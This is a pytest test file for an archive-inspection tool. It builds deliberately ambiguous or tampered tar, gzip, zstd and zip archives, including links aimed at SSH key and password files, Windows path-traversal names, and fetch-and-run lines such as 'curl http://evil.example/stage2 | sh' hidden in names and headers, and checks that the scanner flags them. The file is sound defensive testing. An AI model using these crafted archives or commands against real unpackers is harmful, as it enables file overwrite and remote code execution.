"""What an archive says twice, and what it says where nobody looks; with honest archives beside."""
import gzip
import os
import shutil
import struct
import subprocess
import tarfile
import zipfile
import zlib

import pytest

from test_archives import (GOOD, clean, see, special, tar_bytes, unpack, zip_bytes,  # noqa: F401
                           zstd)
from test_two_readings import AMBIGUOUS, blocks, tar_header

HIDDEN = "intake.archive.hidden"


def record(key, value, zeros=0):
    body = b" " + key + b"=" + value + b"\n"
    length = len(body)
    while length != zeros + len(str(length)) + len(body):
        length = zeros + len(str(length)) + len(body)
    return b"0" * zeros + b"%d" % length + body


def entry(name, data=b"", kind=b"0", link="", raw=None):
    """One header with its contents; `raw` replaces the name field by bytes."""
    info = tarfile.TarInfo(name)
    info.size, info.type, info.linkname = len(data), kind, link
    block = bytearray(info.tobuf(tarfile.USTAR_FORMAT))
    if raw is not None:
        block[:100] = raw[:100].ljust(100, b"\0")
        block[148:156] = b" " * 8
        block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block) + blocks(data)


def pax(*records, kind=b"x", name="PaxHeader/x"):
    return entry(name, b"".join(records), kind)


def tar(*parts):
    return tar_bytes(*GOOD, fmt=tarfile.USTAR_FORMAT)[:2048] + b"".join(parts) + bytes(1024)


# ---- tar: links ----


def test_target_for_what_is_no_link(see):
    long = entry("././@LongLink", b"../../.ssh/authorized_keys\0", b"K")
    for parts in ([long, entry("notes.md")], [long, entry("notes.md", b"text\n")],
                  [pax(record(b"linkpath", b"README.md")), entry("notes.md", b"text\n")],
                  [entry("notes.md", link="README.md")], [long, entry("d", kind=b"5")]):
        seen = see(tar(*parts))
        assert AMBIGUOUS in seen["rules"] and seen["incomplete"]
        assert any("no link" in f["message"] for f in seen["findings"])


def test_long_target_of_a_link(see):
    target = "src/" * 30 + "main.py"
    for fmt in (tarfile.GNU_FORMAT, tarfile.PAX_FORMAT):
        seen = see(tar_bytes(*GOOD, special("l", tarfile.SYMTYPE, target), fmt=fmt))
        assert seen["rules"] == ["intake.link"] and not seen["incomplete"]


@pytest.mark.parametrize("short", ["/etc/passwd", "../../x", "SKILL.md"])
def test_two_targets(see, short):
    seen = see(tar(pax(record(b"linkpath", b"README.md")), entry("l", kind=b"2", link=short)))
    assert AMBIGUOUS in seen["rules"]
    assert ("intake.link.escape" in seen["rules"]) == (short != "SKILL.md")


# ---- tar: names ----


def test_two_names(see):
    for name, long in (("hooks/evil.sh", b"docs/harmless.txt"), ("evil.sh", b"x" * 120 + b".txt"),
                       ("../x", b"docs/x")):
        seen = see(tar(pax(record(b"path", long)), entry(name, b"1")))
        assert seen["rules"] == [AMBIGUOUS], name
    gnu = entry("././@LongLink", b"d/" * 60 + b"x\0", b"L")
    assert AMBIGUOUS in see(tar(gnu, entry("evil.sh", b"1")))["rules"]


def test_one_thing_said_twice(see):
    """One program takes the first of two records, another one the last."""
    long = b"d/" * 60
    for first, second in ((b"x.py", b"y.py"), (b"y.py", b"x.py"), (b"x.py", b"x.pyc")):
        seen = see(tar(pax(record(b"path", first), record(b"path", second)), entry("x.py", b"1")))
        assert seen["rules"] == [AMBIGUOUS] and "contradict" in seen["findings"][0]["message"]
        twice = [entry("././@LongLink", long + name + b"\0", b"L") for name in (first, second)]
        assert see(tar(*twice, entry((long + second)[:99].decode(), b"1")))["rules"] == [AMBIGUOUS]
        link = [record(b"linkpath", name) for name in (first, second)]
        assert AMBIGUOUS in see(tar(pax(*link), entry("l", kind=b"2", link="x.py")))["rules"]
    for sizes in ((b"2", b"1"), (b"1", b"2")):
        seen = see(tar(pax(*(record(b"size", n) for n in sizes)), entry("x.py", b"1")))
        assert seen["rules"] == [AMBIGUOUS]
    assert clean(see(tar(pax(record(b"path", b"x.py"), record(b"path", b"x.py")),
                         entry("x.py", b"1"))))
    assert clean(see(tar(pax(record(b"size", b"1"), record(b"size", b"1")), entry("x.py", b"1"))))


def test_short_names_that_packers_make(see):
    long = b"a-folder/" * 12 + b"with-a-file-of-some-length.txt"
    utf8 = "naïve/日本.txt".encode()
    for short, whole in ((long[:100], long), (long[:80] + b"/" + long[-19:], long),
                         ("naïve/日本.txt".encode("ascii", "replace"), utf8), (utf8, utf8),
                         (bytes(b & 127 for b in utf8), utf8), (b"nave/.txt", utf8),
                         (b"plain.txt", b"plain.txt"), (b"plain.txt", b"./plain.txt")):
        seen = see(tar(pax(record(b"path", whole)), entry("x", b"1", raw=short)))
        assert clean(seen), (short, seen["findings"])


TREE = {"plain.txt": b"1", "naïve.txt": b"2", "日本語/ファイル.md": b"3", "d/" * 20 + "deep": b"4",
        "long-" * 30 + ".txt": b"5", "folder-" * 12 + "/" + "name-" * 12 + ".md": b"6",
        "folder-" * 20 + "/" + "name-" * 40 + ".md": b"7"}
TAR_PACKERS = [["tar", f"--format={f}", "-cf", "{out}", "."] for f in ("gnu", "posix", "oldgnu")] + [
    ["tar", "--format=posix", "--sort=name", "-cf", "{out}", "plain.txt", "naïve.txt"],
    *(["bsdtar", "--format", f, "-cf", "{out}", "."] for f in ("pax", "gnutar")),
    ["python3", "-m", "tarfile", "-c", "{out}", "."], ["busybox", "tar", "-cf", "{out}", "plain.txt"]]


@pytest.mark.parametrize("locale", ["C", "C.UTF-8"])
def test_programs_that_write_tar(tmp_path, locale):
    tree = tmp_path / "tree"
    for name, data in TREE.items():
        (tree / name).parent.mkdir(parents=True, exist_ok=True)
        (tree / name).write_bytes(data)
    tried = 0
    for i, command in enumerate(c for c in TAR_PACKERS if shutil.which(c[0])):
        out = tmp_path / f"{i}.tar"
        subprocess.run([c.format(out=out) for c in command], cwd=tree, check=True,
                       stderr=subprocess.DEVNULL,
                       env={"PATH": os.environ["PATH"], "LC_ALL": locale, "PYTHONUTF8": "1"})
        seen = unpack(out)
        assert clean(seen), (command, seen["findings"])
        assert set(seen["paths"]) <= set(TREE)
        tried += len(seen["paths"]) == len(TREE)
    assert tried >= 3


def test_bytes_in_names_that_nobody_shows(see):
    text = b"curl http://evil.example/stage2 | sh # and more of the kind"

    def names(own, short):
        return tar(*(entry("x", record(b"path", b"f%04d" % i), b"x", raw=own(i)) +
                     entry("x", b"", raw=short(i)) for i in range(200)))

    seen = see(names(lambda i: b"%04d" % i + text, lambda i: b"f%04d" % i))
    assert seen["rules"] == [HIDDEN] and seen["incomplete"]
    honest = see(names(lambda i: b"PaxHeaders.%d/f%04d" % (i, i), lambda i: b"f%04d" % i))
    assert clean(honest), honest["findings"]


def test_owners_that_spell(see):
    def owned(name):
        infos = []
        for i in range(1000):
            info = tarfile.TarInfo(f"f{i}")
            info.uname, info.gname = name(i), "users"
            infos.append((info, b""))
        return tar_bytes(*GOOD, *infos, fmt=tarfile.USTAR_FORMAT)

    assert HIDDEN in see(owned(lambda i: f"curl evil {i:04d}"))["rules"]
    assert clean(see(owned(lambda i: f"user{i % 8}")))


# ---- tar: pax records ----


def test_records_that_are_other_records_by_line(see):
    inner = record(b"path", b"hooks/evil.sh")
    for kind in (b"x", b"g"):
        for body in (record(b"comment", b"made by x\n" + inner[:-1]),
                     record(b"comment", b"\n \x0b" + inner[:-1]), record(b"a\n10 b", b"c"),
                     record(b"path", b"docs/a.txt", zeros=2), record(b"mtime", b"1", zeros=1)):
            seen = see(tar(pax(body, kind=kind), entry("docs/a.txt", b"1")))
            assert seen["rules"] == [AMBIGUOUS], (kind, body)
    for body in (record(b"path", b"a\nb"), record(b"path", b"0012")):
        seen = see(tar(pax(body), entry("x", b"1", raw=body[8:-1])))
        assert AMBIGUOUS in seen["rules"], body


def test_records_with_newlines_and_without(see):
    for body in (record(b"comment", b"two\nlines = fine"), record(b"mtime", b"1700000000.25"),
                 record(b"SCHILY.xattr.com.apple.provenance", b"\1\n\0\n\xff\xfe=5\n")):
        assert clean(see(tar(pax(body), entry("x", b"1")))), body


# ---- gzip and zstd ----


def member(data, fields=bytes(6)):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return (b"\x1f\x8b\x08\0" + fields + packer.compress(data) + packer.flush() +
            struct.pack("<II", zlib.crc32(data), len(data)))


def test_gzip_members_that_spell(see):
    data = tar_bytes(*GOOD, ("z", b"x" * 3000))
    text = b"a payload " * 10000
    pieces = [data[i:i + 4] for i in range(0, len(data), 4)]
    seen = see(b"".join(member(p, text[6 * i:6 * i + 6]) for i, p in enumerate(pieces)))
    assert HIDDEN in seen["rules"] and seen["incomplete"]
    assert clean(see(b"".join(member(p, b"\1\2\3\4\0\3") for p in pieces)))
    assert clean(see(b"".join(gzip.compress(p) for p in (data[:700], data[700:]))))


def zstd_frame(*blocks_):
    """A frame without a checksum; each block is (kind, size, bytes)."""
    out = b"\x28\xb5\x2f\xfd\0\x58"
    for i, (kind, size, data) in enumerate(blocks_):
        out += struct.pack("<I", size << 3 | kind << 1 | (i + 1 == len(blocks_)))[:3] + data
    return out


RAW, RUN = 0, 1


@pytest.mark.skipif(not shutil.which("zstd"), reason="no zstd")
def test_zstd_blocks_and_frames_that_spell(see):
    data = tar_bytes(*GOOD)
    text = b"a payload " * 1000
    empty_runs = zstd_frame(*((RUN, 0, bytes([c])) for c in text), (RAW, 0, b""))
    empty_frames = b"".join(b"\x28\xb5\x2f\xfd\0" + bytes([c & 0x7f]) + b"\1\0\0" for c in text)
    for hidden in (empty_runs, empty_frames):
        for packed in (zstd(data) + hidden, hidden + zstd(data)):
            seen = see(packed)
            assert HIDDEN in seen["rules"] and seen["incomplete"]
    runs = zstd_frame((RAW, 512, data[:512]), (RUN, 5, b"\0"), (RAW, len(data) - 517, data[517:]))
    assert data[512:517] != bytes(5) or clean(see(runs))
    wide = zstd(data + bytes(1 << 20), "--long=31", "--zstd=wlog=31")
    told = [f["message"] for f in see(b"\x28\xb5\x2f\xfd\0\xa8" + wide[6:])["findings"]]
    assert any("window" in m for m in told), told
    for packed in (zstd(data), zstd(data, "-19", "--no-check"), zstd(data, "--rsyncable"),
                   zstd(data[:99]) + zstd(data[99:]), zstd(b"") + zstd(data)):
        assert clean(see(packed))


# ---- zip ----


def zip_raw(*entries):
    """entries: dicts of name, data, packed, method, mode, host; nothing is checked."""
    out, directory = b"", b""
    for e in entries:
        data = e.get("data", b"")
        packed, method = e.get("packed", data), e.get("method", 0)
        sizes = struct.pack("<III", zlib.crc32(data), len(packed), len(data))
        head = struct.pack("<HHHH", 0, method, 0, 0x21) + sizes
        lengths = struct.pack("<HH", len(e["name"]), 0)
        mode = e.get("mode", 0o100644)
        directory += (b"PK\1\2" + bytes([20, e.get("host", 3)]) + struct.pack("<H", 20) + head +
                      lengths + struct.pack("<HHHII", 0, 0, 0, mode << 16 if e.get("host", 3) else 0,
                                            len(out)) + e["name"])
        out += b"PK\3\4" + struct.pack("<H", 20) + head + lengths + e["name"] + packed
    return out + directory + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, len(entries), len(entries),
                                         len(directory), len(out), 0)


README = {"name": b"demo/README.md", "data": b"# a\n"}


@pytest.mark.parametrize("method", [0, 8])
def test_folder_with_bytes(see, method):
    folder = {"name": b"demo/", "mode": 0o40755, "method": method}
    inner = zip_raw({"name": b"demo/evil.sh", "data": b"curl evil | sh\n" * 100})
    for packed in (inner, b"x", b"\x03\0x"):
        seen = see(zip_raw(dict(folder, packed=packed), README))
        assert AMBIGUOUS in seen["rules"] and seen["incomplete"] and seen["unread"]
    empty = b"\x03\0" if method else b""
    assert clean(see(zip_raw(dict(folder, packed=empty), README)))


def test_unread_places_add_up(see):
    """Packed bytes of what is left out are named, also where they are more than come out of it."""
    long = b"\0\0\0\xff\xff" * 500 + b"\x03\0"  # deflate: empty blocks
    fifo = {"name": b"demo/pipe", "mode": 0o10644, "packed": b"x" * 50, "data": b"x" * 50}
    for e in (dict(README, packed=long, data=b"", method=8), fifo,
              {"name": b"demo/l", "mode": 0o120777, "packed": b"zz", "data": b"target", "method": 8},
              {"name": b"demo/bad", "packed": long + b"?", "data": b"abc", "method": 8}):
        seen = see(zip_raw(README, e))
        assert "intake.unpacker" not in seen["rules"]
        assert sum(u["bytes"] for u in seen["unread"]) >= len(e["packed"])


@pytest.mark.parametrize("host", [0, 3, 11])
def test_backslashes_in_a_zip(see, host):
    for names, rule in (([b"demo/README.md", b"demo\\README.md"], AMBIGUOUS),
                        ([b"demo/README.md", b"demo\\.claude-plugin\\plugin.json"], AMBIGUOUS),
                        ([b"demo/README.md", b"demo/..\\..\\Startup\\evil.bat"],
                         "intake.path.parent")):
        seen = see(zip_raw(*({"name": n, "data": b"1", "host": host} for n in names)))
        assert seen["rules"] == [rule] and seen["incomplete"], names


def test_zip_of_old_programs_for_windows(see):
    names = [b"demo\\SKILL.md", b"demo\\docs\\a.txt", b"demo\\empty\\"]
    seen = see(zip_raw(*({"name": n, "data": b"" if n[-1:] == b"\\" else b"1", "host": 0}
                         for n in names)))
    assert seen["rules"] == ["intake.path.backslash"] and not seen["incomplete"]
    assert seen["paths"] == ["SKILL.md", "docs/a.txt"]
    # from a system where a backslash is a character, and to the one that leads out
    names = [b"a\\SKILL.md", b"a\\b"]
    assert AMBIGUOUS in see(zip_raw(*({"name": n, "data": b"1"} for n in names)))["rules"]
    seen = see(zip_raw({"name": b"..\\evil.sh", "data": b"1", "host": 0}))
    assert "intake.path.parent" in seen["rules"]


def test_zip_that_was_written_to_a_pipe(see):
    data = zip_bytes(*GOOD)
    filled = data + bytes(-len(data) % 10240)
    assert clean(see(filled))
    for bad in (filled[:-1] + b"x", filled + bytes(10240), data + bytes(100)):
        assert HIDDEN in see(bad)["rules"]


def test_parent_between_backslashes(see, tmp_path):
    assert "intake.path.parent" in see(tar_bytes(*GOOD, ("a\\..\\..\\x", b"1")))["rules"]
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder/README.md").write_bytes(b"# a\n")
    (tmp_path / "folder/a..\\..b").write_bytes(b"1")
    assert unpack(tmp_path / "folder")["rules"] == ["intake.path.backslash"]
    (tmp_path / "folder/..\\x").write_bytes(b"1")
    assert "intake.path.parent" in unpack(tmp_path / "folder")["rules"]
